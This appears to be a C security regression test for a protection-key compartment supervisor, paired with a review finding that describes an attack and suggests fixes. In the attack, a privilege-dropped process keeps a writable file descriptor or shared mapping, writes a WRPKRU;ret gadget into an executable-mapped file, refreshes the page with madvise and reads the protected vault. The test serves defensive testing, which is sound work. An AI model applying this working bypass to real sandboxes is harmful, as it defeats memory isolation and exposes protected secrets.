// Review 18 (attacker model B). Step 3 of the executable-file rule
// (runtime/supervisor-exec.c changeable()) refuses a call whose own
// descriptor is open for writing, and judges the process's rights as
// they are now (ids, groups, capabilities). A right the process used
// before and still holds is not looked for:
//   - held-fd: root opens the file for writing, keeps the descriptor,
//     then drops every id and capability for good (nothing to take back);
//   - held-shared-map: root maps the file MAP_SHARED, PROT_WRITE, keeps
//     the mapping, and drops the same way (the descriptor closed).
// The dropped process opens the file read-only and maps it executable:
// judged as nobody, it "cannot change" it, mapped from the file (no
// sealed copy), its pages copied (step 6). It writes WRPKRU; ret into the
// file through what it kept, advises its copy away (MADV_DONTNEED on a
// mapping made after start-up goes through) and the next access reads
// the file: a jump with eax = ecx = edx = 0 opens every key and reads the
// vault. Reproduced in the PKU guest: both print ATTACK SUCCEEDED.
// docs/hardening.md names "a descriptor opened for writing while a file
// was still writable to the process" under "Files changed by others", as
// outside the model; it is the process's own descriptor, inside model B.
// Suggested fix: map a sealed copy of every file (step 3's copy always:
// it also closes attacks-rev18-other-process-creds.c), or look through
// the process's descriptors (/proc/<pid>/fdinfo flags) and shared
// writable mappings (/proc/<pid>/maps) of the same inode, and those of
// every process under the supervisor.
// Once fixed each attack ends by signal 5 (a sealed copy: the jump lands
// on the int3 the file held) or 9 (the supervisor refuses the mapping).
// XFAIL: *
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
// RUN: %run %t.on > %t.out 2>&1 || true
// RUN: FileCheck %s --check-prefix=ON < %t.out
// ON-NOT: ATTACK SUCCEEDED
// ON: held-fd: stopped by signal {{[59]}}
// ON: held-shared-map: stopped by signal {{[59]}}
// ON: parent's vault intact: 1
#include "Inputs/target.h"
#include "Inputs/libc-wrpkru.h"

#include <sys/prctl.h>

#define FILE_PATH "/tmp/rev18-held-code"

static void attack(int shared_map) {
  const char *how = shared_map ? "a file written through a shared mapping kept from root"
                               : "a file written through a descriptor kept from root";
  if (getuid() != 0) {
    printf("setup: run as root\n");
    return;
  }
  static unsigned char page[4096];
  memset(page, 0xcc, sizeof page);
  unlink(FILE_PATH);
  int w = open(FILE_PATH, O_RDWR | O_CREAT | O_TRUNC, 0644);
  if (w < 0 || write(w, page, sizeof page) != sizeof page) {
    printf("setup: %s\n", strerror(errno));
    return;
  }
  unsigned char *sh = NULL;
  if (shared_map) {
    sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, w, 0);
    close(w);
    w = -1;
    if (sh == MAP_FAILED) {
      printf("setup: %s\n", strerror(errno));
      return;
    }
  }
  /* Every id nobody's, no capability: nothing left to take back. */
  if (syscall(SYS_setgroups, 0, NULL) || syscall(SYS_setresgid, 65534, 65534, 65534) ||
      syscall(SYS_setresuid, 65534, 65534, 65534)) {
    printf("setup: %s\n", strerror(errno));
    return;
  }
  prctl(PR_SET_DUMPABLE, 1, 0, 0, 0); /* the supervisor reads our memory */
  printf("can open it for writing now: %d\n", open(FILE_PATH, O_WRONLY) >= 0);
  int fd = open(FILE_PATH, O_RDONLY);
  unsigned char *m =
      fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
  if (m == MAP_FAILED) {
    report_read(how, NULL);
    return;
  }
  printf("mapped by a process with no privilege\n");
  const unsigned char code[4] = {0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3};
  int wrote = shared_map ? (memcpy(sh + 0x100, code, 4), 1) : pwrite(w, code, 4, 0x100) == 4;
  int adv = madvise(m, 4096, MADV_DONTNEED);
  printf("written: %d, advised away: %d, the code shows the write: %d\n", wrote, adv,
         !memcmp(m + 0x100, code, 4));
  fflush(stdout);
  static char out[48];
  JUMP_AND_READ(m + 0x100, out);
  report_read(how, out);
}

static void held_fd(void) { attack(0); }
static void held_shared_map(void) { attack(1); }

int main(void) {
  struct attack a[] = {{"held-fd", held_fd}, {"held-shared-map", held_shared_map}};
  return run_attacks(a, 2);
}
